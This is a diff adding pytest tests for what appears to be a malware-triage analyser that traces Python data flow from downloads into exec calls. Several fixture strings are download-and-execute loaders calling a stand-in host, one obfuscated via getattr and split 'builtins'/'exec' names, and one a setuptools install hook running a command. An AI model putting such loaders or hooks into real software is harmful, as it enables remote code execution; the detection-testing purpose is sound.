@@ -1,0 +1,91 @@
+"""Data flow in Python: what arrives, and what does not; and nothing breaks it."""
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from vedette.triage.allowance import Allowance
+from vedette.triage.fact import Act, Fact, When
+from vedette.triage.facts.python import facts
+from vedette.triage.kinds import Kind
+from vedette.triage.sample import Sample
+
+
+def read(text: str, name: str = "a.py", parent: str = "") -> list[Fact]:
+    return list(facts(Sample(name=name, data=text.encode(), kind=Kind.PYTHON, parent=parent), Allowance()))
+
+
+def fed(text: str, act: Act) -> set[Act]:
+    """Return what flows into an act, over any number of steps."""
+    waiting, found = [one for one in read(text) if one.act is act], set[Act]()
+    while waiting:
+        one = waiting.pop()
+        waiting += one.inputs
+        found |= {each.act for each in one.inputs}
+    return found
+
+
+GET = "import requests as r\n"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "def get():\n    return r.get('http://x.invalid').text\nexec(get())\n",
+        "class A:\n    def __init__(self):\n        self.c = r.get('http://x.invalid').text\n    def go(self):\n        exec(self.c)\nA().go()\n",  # noqa: E501
+        "parts = []\nparts.append(r.get('http://x.invalid').text)\nexec(''.join(parts))\n",
+        "d = {'a': r.get('http://x.invalid').text}\nexec(d['a'])\n",
+        "c = ''\nfor line in r.get('http://x.invalid').iter_lines():\n    c += line\nexec(c)\n",
+        "getattr(__import__('buil' + 'tins'), 'ex' + 'ec')(r.get('http://x.invalid').text)\n",
+        "open('/tmp/abc.py', 'w').write(r.get('http://x.invalid').text)\nexec(open('/tmp/abc.py').read())\n",
+    ],
+)
+def test_what_is_downloaded_arrives(text: str) -> None:
+    assert Act.DOWNLOADS in fed(GET + text, Act.RUNS_CODE)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x = r.get('http://x.invalid').text\nexec('1')\n",
+        "x = r.get('http://x.invalid').text\nx = 'print(1)'\nexec(x)\n",
+        "def get():\n    r.get('http://x.invalid')\n    return 'print(1)'\nexec(get())\n",
+        "open('/tmp/abc.py', 'w').write(r.get('http://x.invalid').text)\nexec(open('/tmp/other.py').read())\n",
+    ],
+)
+def test_what_only_stands_beside_it_does_not(text: str) -> None:
+    assert Act.DOWNLOADS not in fed(GET + text, Act.RUNS_CODE)
+
+
+def test_when_it_happens_follows_from_where_it_stands() -> None:
+    text = (
+        "import os  # crontab\nos.system('a')\ndef f():\n    os.system('b')\n"
+        "if __name__ == '__main__':\n    os.system('c')\n"
+    )
+    found = {one.target: one.when for one in read(text, "x.whl!/p/__init__.py", "x.whl")}
+    assert found == {"a": When.IMPORT, "b": When.CALL, "c": When.RUN}
+    assert read("import os\nos.system('a')\n", "x.tar!/x-1/setup.py", "x.tar")[0].when is When.INSTALL
+
+
+def test_what_an_install_step_of_its_own_does_happens_on_install() -> None:
+    text = (
+        "import os\nfrom setuptools import setup\nclass Mine:\n    def run(self):\n        os.system('a')\n"
+        "setup(cmdclass={'install': Mine})\n"
+    )
+    assert next(one for one in read(text) if one.act is Act.RUNS_COMMAND).when is When.INSTALL
+
+
+def test_functions_that_call_one_another_come_to_an_end() -> None:
+    text = "def a(x):\n    return b(x + 'a')\ndef b(x):\n    return a(x + 'b') + a(x)\neval(a('1'))\n"
+    assert read(text)
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from(["(){}[]:\n", "", "='\"exec", "import", "os.x,", "lambda*@def", "class"]), max_size=60
+    )
+)
+def test_no_text_breaks_it(parts: list[str]) -> None:
+    for one in read(" ".join(parts)):
+        assert one.place.line >= 1  # type: ignore[union-attr]
